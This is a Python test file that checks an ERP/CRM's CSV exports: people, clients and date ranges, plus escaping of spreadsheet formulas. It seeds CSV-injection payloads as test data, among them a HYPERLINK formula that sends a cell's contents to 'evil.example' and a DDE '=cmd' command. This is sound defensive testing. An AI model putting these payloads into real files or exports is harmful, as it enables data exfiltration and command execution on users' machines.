"""CSV exports through the gateway and real PostgreSQL: invoices, payments, time entries and expenses name the
client, project and person (name and email of a real user, filled in by the gateway), keep to the date range, and
neutralise formulas; the CRM's exports name companies and owners too."""

import csv
import io
import uuid
from datetime import timedelta
from typing import Any

from devstack.stack import Stack
from tests.erp_billing.helpers import fixed, issued, line, pay, today
from tests.support import Api, person_of

FORMULA_COMPANY = '=HYPERLINK("https://evil.example?"&A1,"Click")'


def _rows(api: Api, path: str, **params: str) -> tuple[str, list[dict[str, str]]]:
    response = api.get(path, params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    return response.text, list(csv.DictReader(io.StringIO(response.text)))


def _real_user(admin: Api, stack: Stack, role: str, name: str) -> tuple[dict[str, Any], Api]:
    email = f"export-{uuid.uuid4().hex[:8]}@example.com"
    user = admin.ok("POST", "/api/auth/users", 201,
                    json={"email": email, "password": "exports are plain 42", "role": role, "full_name": name})
    person_of(admin, user["id"])  # their time is booked once the ERP knows them
    return user, Api.login(stack, email, "exports are plain 42")


def test_erp_exports_name_clients_projects_and_people_by_date_range(admin: Api, stack: Stack) -> None:
    s = uuid.uuid4().hex[:6]
    pm_user, pm = _real_user(admin, stack, "project_manager", f"Pia Person {s}")
    company = admin.new_company(name=f"{FORMULA_COMPANY} {s}")
    deal = admin.new_deal(company["id"], amount="1000.00", billing=fixed(1, today() + timedelta(days=400)))
    admin.ok("POST", f"/api/crm/deals/{deal['id']}/win")
    project = admin.project_of(deal["id"])
    day, earlier = today() - timedelta(days=2), today() - timedelta(days=40)
    with pm:
        for when, hours in ((day, "6.5"), (earlier, "1")):
            pm.ok("POST", "/api/erp/time-entries", 201, json={
                "project_id": project["id"], "work_date": when.isoformat(), "hours": hours,
                "description": "-2+3 wireframes"})
        expense = pm.ok("POST", "/api/erp/expenses", 201, json={
            "amount": "40.00", "currency": "EUR", "expense_date": day.isoformat(), "project_id": project["id"],
            "merchant": "=cmd|' /C calc'!A0"})
        rate = admin.ok("POST", "/api/erp/tax-rates", 201, json={"name": f"Export VAT {s}", "category": "standard",
                                                                 "percent": "19"})
        taxed = pm.ok("POST", "/api/erp/expenses", 201, json={
            "amount": "119.00", "currency": "EUR", "expense_date": day.isoformat(), "project_id": project["id"],
            "merchant": f"Stationer {s}", "tax_rate_id": rate["id"]})
    invoice = issued(admin, project, [line(unit_price="250.00")])
    pay(admin, invoice["id"], "100.00", reference="@SUM(1+1)")
    window = {"date_from": (day - timedelta(days=1)).isoformat(), "date_to": today().isoformat()}

    text, entries = _rows(admin, "/api/erp/export/time-entries", **window)
    mine = [r for r in entries if r["project"] == project["name"]]
    assert [(r["hours"], r["person"], r["person_email"], r["person_id"]) for r in mine] == [
        ("6.50", f"Pia Person {s}", pm_user["email"], pm_user["id"])]  # the entry 40 days back is outside
    assert mine[0]["client"] == f"'{FORMULA_COMPANY} {s}"  # written as text: a spreadsheet runs nothing
    assert mine[0]["description"] == "'-2+3 wireframes"
    assert f"'{FORMULA_COMPANY}".replace('"', '""') in text
    _, everything = _rows(admin, "/api/erp/export/time-entries")
    assert len([r for r in everything if r["project"] == project["name"]]) == 2

    _, expenses = _rows(admin, "/api/erp/export/expenses", **window)
    row = next(r for r in expenses if r["id"] == expense["id"])
    assert (row["merchant"], row["submitted_by_name"], row["submitted_by_email"], row["project"]) == (
        "'=cmd|' /C calc'!A0", f"Pia Person {s}", pm_user["email"], project["name"])
    assert row["amount"] == "40.00" and row["client"].endswith(s)
    # No VAT rate on it: no VAT, the net is the amount (decision 215).
    assert (row["vat_percent"], row["vat"], row["net_amount"]) == ("", "0.00", "40.00")
    row = next(r for r in expenses if r["id"] == taxed["id"])
    assert (row["amount"], row["vat_percent"], row["vat"], row["net_amount"]) == ("119.00", "19", "19.00", "100.00")

    _, invoices = _rows(admin, "/api/erp/export/invoices", **window)
    row = next(r for r in invoices if r["id"] == invoice["id"])
    assert (row["number"], row["client"], row["project"], row["total"], row["amount_paid"]) == (
        invoice["number"], f"'{FORMULA_COMPANY} {s}", project["name"], "250.00", "100.00")
    assert "client_id" not in row and "project_id" not in row

    _, payments = _rows(admin, "/api/erp/export/payments", **window)
    row = next(r for r in payments if r["invoice_number"] == invoice["number"])
    assert (row["amount"], row["reference"], row["client"]) == ("100.00", "'@SUM(1+1)", f"'{FORMULA_COMPANY} {s}")

    far = {"date_from": "2001-01-01", "date_to": "2001-12-31"}
    for kind in ("invoices", "payments", "time-entries", "expenses"):
        _, nothing = _rows(admin, f"/api/erp/export/{kind}", **far)
        assert nothing == [], kind
    backwards = admin.get("/api/erp/export/invoices", params={"date_from": "2026-02-01", "date_to": "2026-01-01"})
    assert backwards.status_code == 422
    assert admin.get("/api/erp/export/widgets").status_code == 422


def test_crm_exports_name_companies_and_owners(admin: Api, stack: Stack) -> None:
    s = uuid.uuid4().hex[:6]
    owner, owner_api = _real_user(admin, stack, "sales", f"Olga Owner {s}")
    owner_api.client.close()
    company = admin.ok("POST", "/api/crm/companies", 201, json={"name": f"Named Co {s}", "owner_id": owner["id"]})
    contact = admin.ok("POST", "/api/crm/contacts", 201, json={"first_name": "Cora", "company_id": company["id"],
                                                              "owner_id": owner["id"]})
    deal = admin.new_deal(company["id"], owner_id=owner["id"])
    _, contacts = _rows(admin, "/api/crm/export/contacts")
    row = next(r for r in contacts if r["id"] == contact["id"])
    assert (row["company_name"], row["owner"], row["owner_email"], row["owner_id"]) == (
        f"Named Co {s}", f"Olga Owner {s}", owner["email"], owner["id"])
    _, deals = _rows(admin, "/api/crm/export/deals")
    row = next(r for r in deals if r["id"] == deal["id"])
    assert (row["company_name"], row["owner"]) == (f"Named Co {s}", f"Olga Owner {s}")
    _, companies = _rows(admin, "/api/crm/export/companies")
    assert next(r for r in companies if r["id"] == company["id"])["owner"] == f"Olga Owner {s}"
